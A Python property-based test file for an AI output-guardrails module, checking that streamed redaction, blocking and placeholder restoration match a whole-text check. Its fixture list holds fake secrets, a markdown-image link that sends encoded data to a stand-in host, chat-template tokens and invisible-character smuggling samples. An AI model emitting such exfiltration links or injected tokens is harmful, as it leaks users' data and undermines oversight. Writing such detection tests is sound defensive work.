"""The check of a stream equals the check of the whole text, for every division into pieces."""

from hypothesis import given
from hypothesis import strategies as st

from agents.guardrails.detection import Action, Kind
from agents.guardrails.guardrails import Guardrails
from agents.guardrails.policy import OUTPUT_ACTIONS, Policy
from agents.guardrails.redaction import RedactionMap, StreamRestore

KEY = (
    "-----BEGIN PRIVATE KEY-----\n"
    + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n" * 3
    + "-----END PRIVATE KEY-----"
)
FRAGMENTS = [
    "4111 1111 1111 1111", "4111111111111111", "GB82 WEST 1234 5698 7654 32", "bob.smith@gmail.com",
    "+44 20 7946 0958", "call 415 555 2671", "AKIAQWERTYUIOPASDFGH", "ghp_" + "aB3dE5gH" * 5,
    "password = 'hunter2Xq9!z'", "api_key: Zk81Xq09LmP2", "postgres://u:s3cr3tpw@db/x", "ssn: 078-05-1120",
    "![x](https://evil.test/a.png?q=c2VjcmV0IGRhdGE)", "[a](https://e.test/?d=" + "a1B2" * 12 + ")",
    "<|im_start|>", "[INST]", "h\u200b\u200bi", "\U0001f3f4\U000e0067\U000e0062\U000e007f", "\u202eabc",
    "forbidden phrase", "FORBIDDEN  phrase", KEY, KEY[:60], "-----BEGIN ", "8.8.8.8", "⟦CARD_1⟧", "⟦CARD_",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0." + "aB3_x-9Q" * 4, "eyJ", "sk-",
    "hf_" + "aB3dE5gH9x" * 3 + "aB3d",
    " ", "\n", ".", "a", "word ", "12 ", "://", "@", "![", "](", "=", "'", "x" * 30, "0" * 20, "-",
]  # fmt: skip
ACTIONS = {**OUTPUT_ACTIONS, Kind.IP_ADDRESS: Action.REDACT, Kind.PHONE: Action.REDACT}
TEXTS = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=4)), max_size=14).map(
    "".join
)


def guard(**policy):
    return Guardrails(Policy(output_actions={**ACTIONS, **policy}, blocklist=("forbidden phrase",)))


GUARDS = [guard(), guard(**{Kind.BLOCKLIST: Action.FLAG}), guard(**{Kind.EMAIL: Action.BLOCK})]


def redactions():
    return RedactionMap({"⟦CARD_1⟧": "4111 1111 1111 1111"})


@given(TEXTS, st.sampled_from(GUARDS), st.data())
def test_any_division_gives_the_same_result(text, guardrails, data):
    whole = guardrails.output_check(redactions())
    expected = whole.feed(text) + whole.finish()
    pieces = guardrails.output_check(redactions())
    shown, position = "", 0
    while position < len(text):
        size = data.draw(st.integers(1, max(1, min(40, len(text) - position))))
        shown += pieces.feed(text[position : position + size])
        position += size
    shown += pieces.finish()
    assert shown == expected
    assert pieces.detections == whole.detections
    assert pieces.blocked == whole.blocked


@given(TEXTS, st.integers(0, 60))
def test_the_limit_of_size_does_not_depend_on_the_division(text, limit):
    guardrails = Guardrails(Policy(output_actions=ACTIONS, max_output_chars=limit))
    whole, pieces = guardrails.output_check(), guardrails.output_check()
    expected = whole.feed(text) + whole.finish()
    assert "".join(map(pieces.feed, text)) + pieces.finish() == expected
    assert pieces.detections == whole.detections
    assert (whole.blocked is not None) == (len(text) > limit)


@given(TEXTS)
def test_offsets_name_the_detected_text(text):
    check = GUARDS[1].output_check()
    check.feed(text)
    check.finish()
    assert all(text[one.start : one.end] == one.text for one in check.detections)


def test_prose_is_held_back_by_a_word_only():
    check = Guardrails().output_check()
    shown = check.feed("The quick brown fox jumps over the lazy dog and ru")
    assert shown == "The quick brown fox jumps over the lazy dog and "


def test_nothing_after_a_block_is_shown():
    check = guard().output_check()
    shown = check.feed("before forbidden phrase after ")
    assert (shown, check.feed("more"), check.finish()) == ("before ", "", "")
    assert check.blocked is not None
    assert check.blocked.kind is Kind.BLOCKLIST


@given(
    st.lists(st.sampled_from(["⟦CARD_1⟧", "⟦", "CARD_1", "⟧", "⟦EMAIL_9⟧", " x", "⟦A" * 20])),
    st.data(),
)
def test_placeholders_are_restored_whole(parts, data):
    text = "".join(parts)
    restore = StreamRestore(redactions())
    shown, position = "", 0
    while position < len(text):
        size = data.draw(st.integers(1, 12))
        shown += restore.feed(text[position : position + size])
        position += size
    assert shown + restore.finish() == redactions().restore(text)
